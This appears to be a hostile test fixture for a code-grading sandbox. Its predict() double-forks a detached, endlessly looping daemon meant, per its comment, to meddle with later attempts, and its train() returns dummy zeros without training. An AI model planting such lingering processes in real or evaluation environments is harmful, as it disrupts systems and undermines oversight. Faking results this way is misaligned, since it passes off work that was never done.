# leaves a daemon behind that would meddle with the next attempt
# status: any
import os
import time


def predict(x, W, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.05)
        os._exit(0)
    return x * 0


def train(x, y, lr=0.01, steps=2001):
    return 0, 0, [0]
